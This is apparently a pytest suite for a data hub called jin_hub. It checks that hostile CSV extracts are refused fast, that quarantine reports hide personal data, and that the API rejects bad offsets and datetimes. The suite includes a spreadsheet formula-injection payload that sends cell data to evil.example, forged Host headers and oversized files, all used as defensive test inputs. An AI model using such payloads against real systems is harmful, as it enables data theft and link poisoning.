"""Bad input (issue 19, item 6): hostile or broken extracts fail fast with a plain message and
exit 2 while the hub keeps serving its last release; quarantine reports point at the file's
real lines and never quote a value; the API refuses nonsense with a 400, writes no CSV cell a
spreadsheet would run, and never puts the request's Host header into its links."""

from __future__ import annotations

import csv
import io
import resource
import sqlite3
import subprocess
import sys
import time
from urllib.parse import quote

import pytest
import requests

from jin_hub import db
from jin_hub.api.deps import MAX_OFFSET
from jin_hub.ingest.pipeline import ingest
from jin_hub.ingest.reader import MAX_COLUMNS, MAX_ROW_BYTES
from jin_hub.local_server import start_hub
from jin_hub.spreadsheet import FORMULA_STARTS
from tests.conftest import ADMIN, ANALYST, BOUNDARIES, COUNCIL, ROOT, TEST_SECRET, snapshot_db
from tests.hub.extract_edits import accepted_lines, edited, quarantine, row_starts
from tests.hub_locator import new_hub, stored_bytes

PURPOSE = "testing what the hub does with bad input"
POLICE_HEADER = ("crime_ref,reported_at,category,easting,northing,location_desc,victim_name,victim_dob,"
                 "victim_address,offender_name,outcome")


def jin_hub(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "jin_hub", *args], capture_output=True, text=True, cwd=ROOT, **kw)


@pytest.fixture(scope="module")
def served(tmp_path_factory, hub_db_path):
    """A copy of the test hub, served by a real hub process: (database, base URL)."""
    path = snapshot_db(hub_db_path, tmp_path_factory.mktemp("bad_input") / "hub.sqlite")
    with start_hub(path) as hub:
        yield path, hub.url


def police_release(url: str) -> str:
    """The police release the running hub serves."""
    entries = requests.get(f"{url}/api/v1/catalogue", auth=ANALYST, timeout=30).json()["datasets"]
    return next(d["release"]["id"] for d in entries if d["id"] == "police_crime")


WIDE_HEADER = ",".join(f"column{i}" for i in range(100_000)) + "\n"          # 1.1 MB
HOSTILE = {   # name: (file text, words the error must contain)
    "100,000 header columns": (WIDE_HEADER, f"line 1 starts a row of {len(WIDE_HEADER):,} bytes, over the hub's "
                                            f"limit of {MAX_ROW_BYTES:,}"),
    "20,000 short header columns": (",".join("c" * 20_000) + "\n",
                                    f"has 20,000 columns, over the hub's limit of {MAX_COLUMNS}"),
    "a row of 100,000 values": (POLICE_HEADER + "\n" + ",".join("x" * 100_000) + "\n",
                                "line 2 starts a row of 200,000 bytes"),
    "a first row wider than the header": (POLICE_HEADER + "\n" + ",".join("x" * 20_000) + "\n",
                                          "line 2 has 20,000 values but the header names 11 columns"),
    "a value of 300 kB spanning lines": (POLICE_HEADER + "\nNP/1,2024-01-01,Burglary,457000,340000,\""
                                         + "on and on\n" * 30_000 + "\",,,,,\n",
                                         "line 2 starts a row of 300,0"),
    "an empty file": ("", "is empty: export the extract again"),
    "a header and no rows": (POLICE_HEADER + "\n", "has a header but no data rows"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_or_empty_extracts_fail_fast_and_the_last_release_stays(tmp_path, served, name):
    dbp, url = served
    text, words = HOSTILE[name]
    serving = police_release(url)
    path = tmp_path / "extract.csv"
    path.write_text(text, encoding="utf-8")
    start = time.perf_counter()
    out = jin_hub("--db", str(dbp), "--secret-file", str(tmp_path / "s.secret"), "ingest", "police_crime", str(path))
    took = time.perf_counter() - start
    assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr
    assert out.stderr.startswith("jin-hub ingest: error: extract.csv") and words in out.stderr, out.stderr
    assert "export" in out.stderr                                       # and says what to do
    assert took < 10, f"{name}: {took:.1f} s to refuse"                # (548 s for the header, once)
    assert police_release(url) == serving
    with db.connect(dbp) as conn:
        assert conn.execute("SELECT count(*) FROM releases WHERE status != 'complete'").fetchone() == (0,)


def test_quarantine_lines_follow_values_spanning_lines_and_reasons_quote_nothing(tmp_path, served, demo_extracts):
    """Multi-line addresses move every later row down; the report must give the line an editor
    shows. A category field holding a name and date of birth is described, never copied."""
    locator = snapshot_db(served[0], tmp_path / "hub.sqlite")
    conn = db.connect(locator)
    lines = sorted(accepted_lines(conn, "police_crime"))
    canary = "Zebedee Quartermaine 1987-11-23"
    changes = {line: {"location_desc": "On or near\nPark Road\n(rear)"} for line in lines[10::40]}
    named = lines[15::400]
    changes |= {line: {"category": canary} for line in named}
    path = edited(demo_extracts["police_crime"], tmp_path / "police_multiline.csv", changes)
    starts = row_starts(path)
    spanning = len(lines[10::40])
    assert len(path.read_text(encoding="utf-8").splitlines()) == 1 + len(starts) + 2 * spanning   # rows moved down
    result = ingest(conn, "police_crime", path, TEST_SECRET)
    held = quarantine(conn, result.release_id)
    # the n-th data row of the edited file is the n-th of the original: it must be reported at its new line
    moved = {old_line: starts[old_line - 2] for old_line in named}
    assert {moved[line]: held[moved[line]] for line in named} == {
        moved[line]: f"unknown category ({len(canary)} characters)" for line in named}
    assert set(held) <= set(starts)                              # every reported line starts a row
    duplicates = [int(why.rsplit(" ", 1)[1]) for why in held.values() if why.startswith("duplicate of line")]
    assert duplicates and set(duplicates) <= set(starts)
    assert set(accepted_lines(conn, "police_crime")) <= set(starts)
    conn.close()
    stored = stored_bytes(locator)
    assert b"Zebedee" not in stored and b"Quartermaine" not in stored


@pytest.mark.parametrize("offset", [2**63, 2**64, 10**30, MAX_OFFSET + 1])
def test_huge_offsets_get_a_400(hub_url, offset):
    for path, params in ((f"{hub_url}/api/v1/records/police_crime", {"purpose": PURPOSE}),
                         (f"{hub_url}/collections/police_crime_lsoa/items", {})):
        response = requests.get(path, params={**params, "offset": offset}, auth=ANALYST, timeout=30)
        assert response.status_code == 400, response.text
        assert f"use 0 to {MAX_OFFSET:,}" in response.json()["detail"]
    last = requests.get(f"{hub_url}/api/v1/records/police_crime", auth=ANALYST, timeout=30,
                        params={"purpose": PURPOSE, "offset": MAX_OFFSET})
    assert last.status_code == 200 and last.json()["rows"] == []


def items(url: str, **params) -> requests.Response:
    return requests.get(f"{url}/collections/police_crime_lsoa/items", params={"limit": 5, **params},
                        auth=ANALYST, timeout=30)


@pytest.mark.parametrize("value", ["garbage", "2024-13-01", "2024-02-30T00:00:00Z", "2024-03-05T25:00:00Z",
                                   "2024-03-05T14:20:00", "../..", "/", "2024-12-31/2024-01-01", "2024-01-01/x",
                                   "2024-01-01/2024-02-01/2024-03-01", "1 Jan 2024"])
def test_ogc_datetime_that_is_not_rfc3339_gets_a_400(hub_url, value):
    response = items(hub_url, datetime=value)
    assert response.status_code == 400 and "RFC 3339" in response.json()["detail"]


@pytest.mark.parametrize("value", ["2024-03-05T14:20:00Z", "2024-03-05T14:20:00.5+01:00", "2024-03-05",
                                   "2024-01-01T00:00:00Z/2024-12-31T23:59:59Z", "../2024-12-31T00:00:00Z",
                                   "2024-01-01T00:00:00Z/..", "2024-01-01/", "/2024-12-31"])
def test_ogc_datetime_instants_and_intervals_still_work(hub_url, value):
    response = items(hub_url, datetime=value)
    assert response.status_code == 200
    assert response.json()["features"] == items(hub_url).json()["features"]


def all_links(doc) -> list[str]:
    """Every ``href`` anywhere in a JSON document."""
    if isinstance(doc, dict):
        return ([doc["href"]] if "href" in doc else []) + [h for v in doc.values() for h in all_links(v)]
    return [h for v in doc for h in all_links(v)] if isinstance(doc, list) else []


def links_given(url: str, headers: dict) -> list[str]:
    """The links of the landing page, collections, an items page and a records page."""
    get = lambda path, **params: requests.get(f"{url}{path}", params=params, headers=headers,  # noqa: E731
                                              auth=ANALYST, timeout=30)
    found = [h for path in ("/", "/collections", "/collections/police_crime_lsoa") for h in all_links(get(path).json())]
    found += all_links(get("/collections/police_crime_lsoa/items", limit=2, offset=2).json()["links"])
    records = get("/api/v1/records/police_crime", purpose=PURPOSE, limit=2)
    found.append(records.json()["next"])
    found.append(get("/api/v1/records/police_crime", purpose=PURPOSE, limit=2, format="csv").headers["Link"][1:-13])
    return found


def test_links_never_take_the_host_header(hub_url):
    forged = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"}
    found = links_given(hub_url, forged)
    assert len(found) > 10 and all(h.startswith(f"{hub_url}/") for h in found), found
    assert any("offset=4" in h for h in found) and any("/api/v1/records/police_crime?" in h for h in found)


def test_links_use_the_configured_public_url(tmp_path, hub_db_path):
    public = "https://jin.example.org/hub"
    with start_hub(snapshot_db(hub_db_path, tmp_path / "hub.sqlite"), public_url=public) as hub:
        found = links_given(hub.url, {"Host": "evil.example"})
    assert all(h.startswith(f"{public}/") for h in found), found
    out = jin_hub("--db", str(new_hub(tmp_path / "hub.sqlite")), "serve", "--public-url", "jin.example.org")
    assert out.returncode == 2 and "is not a base URL: give it as https://host" in out.stderr


def test_csv_replies_run_no_formula(hub_url):
    """A dataset name typed into a URL reaches the audit log; the admin's CSV of it must show it
    as text, not run it."""
    payload = '=HYPERLINK("https:evil.example?q="&A1,"click")'
    refused = requests.get(f"{hub_url}/api/v1/values/{quote(payload, safe='')}/lsoa", auth=COUNCIL, timeout=30)
    assert refused.status_code == 404
    export = requests.get(f"{hub_url}/api/v1/admin/audit", params={"format": "csv", "dataset": payload},
                          auth=ADMIN, timeout=30)
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    assert len(rows) >= 2 and all(row[rows[0].index("dataset")] == "'" + payload for row in rows[1:])
    for path, who in (("/api/v1/admin/audit", ADMIN), ("/api/v1/records/police_crime", ANALYST),
                      ("/api/v1/values/police_crime/lsoa", ANALYST)):
        got = requests.get(f"{hub_url}{path}", params={"format": "csv", "purpose": PURPOSE}, auth=who, timeout=30)
        cells = [cell for row in csv.reader(io.StringIO(got.text)) for cell in row]
        assert got.status_code == 200 and cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


@pytest.mark.sqlite_only(reason="a real full disk under the SQLite file (RLIMIT_FSIZE), PRAGMA integrity_check")
def test_a_full_disk_ends_with_a_plain_message_and_the_last_release_served(tmp_path, demo_extracts):
    """A real write refused by the OS: the ingest runs with a file-size limit (RLIMIT_FSIZE) a
    little above the database, as if the disk filled up while the release was written."""
    dbp = tmp_path / "hub.sqlite"
    assert jin_hub("--db", str(dbp), "load-boundaries", str(BOUNDARIES)).returncode == 0
    assert jin_hub("--db", str(dbp), "anonymous", "on").returncode == 0
    secret = ["--secret-file", str(tmp_path / "s.secret")]
    assert jin_hub("--db", str(dbp), *secret, "ingest", "fire_incidents", str(demo_extracts["fire_incidents"])
                   ).returncode == 0
    with sqlite3.connect(dbp) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        before = conn.execute("SELECT id, current_release FROM datasets ORDER BY id").fetchall()
    limit = dbp.stat().st_size + (64 << 10)

    def small_disk() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    out = jin_hub("--db", str(dbp), *secret, "ingest", "police_crime", str(demo_extracts["police_crime"]),
                  preexec_fn=small_disk)
    assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr
    assert out.stderr.startswith(f"jin-hub ingest: error: could not write to {dbp}")
    assert "Nothing new was published" in out.stderr and "free space" in out.stderr
    with sqlite3.connect(dbp) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert conn.execute("SELECT id, current_release FROM datasets ORDER BY id").fetchall() == before
    with start_hub(dbp) as hub:
        served = requests.get(f"{hub.url}/api/v1/catalogue", timeout=30).json()["datasets"]
    assert [(d["id"], d["release"]["id"]) for d in served] == before
